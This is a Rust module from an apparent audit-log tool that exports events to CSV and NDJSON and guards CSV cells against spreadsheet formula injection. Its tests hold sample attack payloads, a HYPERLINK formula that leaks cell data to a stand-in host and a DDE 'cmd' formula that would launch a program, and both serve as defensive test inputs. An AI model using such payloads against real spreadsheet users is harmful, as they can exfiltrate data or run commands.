//! Exports of selected events: CSV of their [`Row`]s and NDJSON of their original JSON.
//!
//! CSV follows RFC 4180 (CRLF line ends; a cell holding `"`, `,`, CR or LF is quoted, its quotes
//! doubled). Log fields are attacker-controlled, so a cell a spreadsheet would read as a formula
//! (starting with `=`, `+`, `-`, `@`, tab or CR) gets a leading `'`.
//!
//! ```
//! use authtrail_core::export::{csv_header, csv_cell};
//!
//! let mut out = String::from(csv_header());
//! csv_cell(&mut out, "=HYPERLINK(\"http://x\")");
//! assert!(out.ends_with("\"'=HYPERLINK(\"\"http://x\"\")\""));
//! ```

use crate::time::format_iso;
use crate::Row;

/// The header line, CRLF-terminated: the [`Row`] fields in the order [`csv_rows`] writes them.
pub fn csv_header() -> &'static str {
    "time,source,kind,outcome,action,user,actor,ip,method,country\r\n"
}

/// Appends one cell: neutralised against formula injection, quoted when RFC 4180 requires it.
pub fn csv_cell(out: &mut String, value: &str) {
    let formula = value.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let quote = value.contains(['"', ',', '\r', '\n']);
    if quote {
        out.push('"');
    }
    if formula {
        out.push('\'');
    }
    if quote {
        for c in value.chars() {
            if c == '"' {
                out.push('"');
            }
            out.push(c);
        }
        out.push('"');
    } else {
        out.push_str(value);
    }
}

/// Appends one CRLF-terminated line per row (time as ISO-8601 UTC with milliseconds).
pub fn csv_rows(out: &mut String, rows: &[Row]) {
    for r in rows {
        out.push_str(&format_iso(r.time));
        for value in [
            r.source, r.kind, r.outcome, &r.action, &r.user, &r.actor, &r.ip, &r.method, &r.country,
        ] {
            out.push(',');
            csv_cell(out, value);
        }
        out.push_str("\r\n");
    }
}

/// Appends an event's original JSON as one NDJSON line: a pretty-printed record's line breaks
/// (whitespace between JSON tokens; a JSON string cannot hold a raw one) become spaces.
pub fn ndjson_line(out: &mut Vec<u8>, original: &[u8]) {
    out.extend(original.iter().map(|&b| match b {
        b'\r' | b'\n' => b' ',
        b => b,
    }));
    out.push(b'\n');
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cell(v: &str) -> String {
        let mut s = String::new();
        csv_cell(&mut s, v);
        s
    }

    #[test]
    fn formula_cells_are_neutralised() {
        assert_eq!(cell("+1"), "'+1");
        assert_eq!(cell("-2"), "'-2");
        assert_eq!(cell("@SUM(A1:A9)"), "'@SUM(A1:A9)");
        assert_eq!(cell("=1+1"), "'=1+1");
        assert_eq!(cell("\tx"), "'\tx");
        assert_eq!(
            cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
        );
        assert_eq!(cell("\r=1"), "\"'\r=1\"");
        // Only the first character counts.
        assert_eq!(cell("a=b"), "a=b");
        assert_eq!(cell("203.0.113.7"), "203.0.113.7");
    }

    #[test]
    fn quotes_commas_and_newlines_are_quoted() {
        assert_eq!(cell("plain"), "plain");
        assert_eq!(cell(""), "");
        assert_eq!(cell("a,b"), "\"a,b\"");
        assert_eq!(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(cell("two\nlines"), "\"two\nlines\"");
        assert_eq!(cell("cr\rlf\r\n"), "\"cr\rlf\r\n\"");
    }

    #[test]
    fn rows_follow_the_header() {
        let row = Row {
            index: 3,
            time: 1_574_812_981_800,
            kind: "login",
            source: "Activity Tracker",
            outcome: "failure",
            action: "iam-identity.user-apikey.login".into(),
            user: "=cmd|' /C calc'!A0".into(),
            actor: "a,\"b\"".into(),
            ip: "203.0.113.7".into(),
            method: "-".into(),
            country: "multi\nline".into(),
        };
        let mut out = String::from(csv_header());
        csv_rows(&mut out, &[row]);
        assert_eq!(
            out,
            "time,source,kind,outcome,action,user,actor,ip,method,country\r\n\
             2019-11-27T00:03:01.800Z,Activity Tracker,login,failure,iam-identity.user-apikey.login,\
             '=cmd|' /C calc'!A0,\"a,\"\"b\"\"\",203.0.113.7,'-,\"multi\nline\"\r\n"
        );
    }

    #[test]
    fn ndjson_lines_are_single_lines() {
        let mut out = Vec::new();
        ndjson_line(&mut out, b"{\r\n  \"a\": \"x\\ny\"\n}");
        ndjson_line(&mut out, br#"{"b":1}"#);
        let text = String::from_utf8(out).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines, ["{    \"a\": \"x\\ny\" }", r#"{"b":1}"#]);
        let v: serde_json::Value = serde_json::from_str(lines[0]).unwrap();
        assert_eq!(v["a"], "x\ny");
    }
}
